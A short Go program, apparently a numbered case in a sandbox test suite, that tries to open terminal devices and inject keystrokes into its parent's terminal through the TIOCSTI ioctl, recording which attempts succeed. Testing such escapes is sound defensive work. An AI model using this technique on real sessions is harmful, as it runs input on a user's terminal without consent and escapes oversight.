// Type into the terminal of whoever started us.
// program 38
// expect: accepted
package main

import (
	"fmt"
	"os"
	"syscall"
	"unsafe"
)

func attack(token int) []string {
	done := []string{}
	for _, path := range []string{"/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"} {
		if _, err := os.OpenFile(path, os.O_RDWR, 0); err == nil {
			done = append(done, path)
		}
	}
	letter := byte('x')
	for descriptor := uintptr(0); descriptor < 3; descriptor++ {
		_, _, err := syscall.Syscall(syscall.SYS_IOCTL, descriptor, syscall.TIOCSTI, uintptr(unsafe.Pointer(&letter)))
		if err == 0 {
			done = append(done, fmt.Sprint("TIOCSTI on ", descriptor))
		}
	}
	return done
}
